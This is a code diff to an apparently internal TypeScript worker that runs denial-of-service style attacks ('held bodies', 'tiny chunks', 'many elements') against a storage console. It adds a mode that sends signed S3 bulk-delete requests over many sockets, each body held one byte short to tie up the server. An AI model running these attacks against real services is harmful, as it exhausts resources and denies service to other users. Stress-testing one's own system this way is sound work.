@@ -3,6 +3,7 @@ import { connect, type Socket } from 'node:net'
 import { parentPort, workerData } from 'node:worker_threads'
 import aws4 from 'aws4'
 import { type Cut, tinyChunksRequest } from '../engine/tiny-chunks.ts'
+import { signHeaders } from '../support/sign-s3.ts'
 
 /** What the attacker knows: where the console and its engine are, a session, and the keys of its account. */
 export type Knowledge = {
@@ -16,7 +17,7 @@ export type Knowledge = {
 
 export type Attack =
   | { kind: 'tiny chunks'; cut: Cut; bytes: number }
-  | { kind: 'held bodies'; count: number; bytes: number }
+  | { kind: 'held bodies'; at: 'console' | 'S3'; count: number; bytes: number }
   | { kind: 'many elements'; bytes: number; complete: boolean }
 
 const MiB = 1024 ** 2
@@ -51,23 +52,38 @@ function tinyChunks(cut: Cut, bytes: number): Promise<string> {
   )
 }
 
-/** POSTs of a body to the list of keys to delete, each without its last byte, until each is whole but for that or refused. */
-async function heldBodies(count: number, bytes: number): Promise<string> {
+function headOf(at: 'console' | 'S3', bytes: number): { url: string; lines: string[] } {
+  if (at === 'S3') {
+    const { host } = new URL(known.s3Url)
+    const target = { host, path: `/${known.bucket}`, query: 'delete=', region: 'us-east-1' }
+    const headers = { 'content-length': String(bytes) }
+    const signing = { ...target, method: 'POST', keys: known.keys, payloadHash: 'UNSIGNED-PAYLOAD', headers }
+    const lines = Object.entries(signHeaders(signing)).map(([name, value]) => `${name}: ${value}`)
+    return { url: known.s3Url, lines: [`POST /${known.bucket}?delete= HTTP/1.1`, ...lines] }
+  }
   const { host, origin } = new URL(known.url)
-  const head = [
-    'DELETE /api/objects/delete HTTP/1.1',
-    `host: ${host}`,
-    `origin: ${origin}`,
-    `cookie: ${known.cookie}`,
-    'content-type: application/json',
-    `content-length: ${bytes}`,
-  ]
+  return {
+    url: known.url,
+    lines: [
+      'DELETE /api/objects/delete HTTP/1.1',
+      `host: ${host}`,
+      `origin: ${origin}`,
+      `cookie: ${known.cookie}`,
+      'content-type: application/json',
+      `content-length: ${bytes}`,
+    ],
+  }
+}
+
+/** Lists of keys to delete, each without its last byte, sent until each is whole but for that or refused. */
+async function heldBodies(at: 'console' | 'S3', count: number, bytes: number): Promise<string> {
+  const { url, lines } = headOf(at, bytes)
   const block = Buffer.alloc(MiB, ' ')
   const sockets: Socket[] = []
   const answers: Record<string, number> = {}
   await Promise.all(
     Array.from({ length: count }, async () => {
-      const socket = open(known.url)
+      const socket = open(url)
       sockets.push(socket)
       let refused: string | undefined
       const over = new Promise<void>(resolve => {
@@ -80,7 +96,7 @@ async function heldBodies(count: number, bytes: number): Promise<string> {
           resolve()
         })
       })
-      socket.write(`${head.join('\r\n')}\r\n\r\n`)
+      socket.write(`${lines.join('\r\n')}\r\n\r\n`)
       for (let left = bytes - 1; left > 0 && refused === undefined; ) {
         const piece = block.subarray(0, Math.min(left, block.length))
         left -= piece.length
@@ -124,6 +140,6 @@ const outcome =
   attack.kind === 'tiny chunks'
     ? await tinyChunks(attack.cut, attack.bytes)
     : attack.kind === 'held bodies'
-      ? await heldBodies(attack.count, attack.bytes)
+      ? await heldBodies(attack.at, attack.count, attack.bytes)
       : await manyElements(attack.bytes, attack.complete)
 parentPort?.postMessage(outcome)
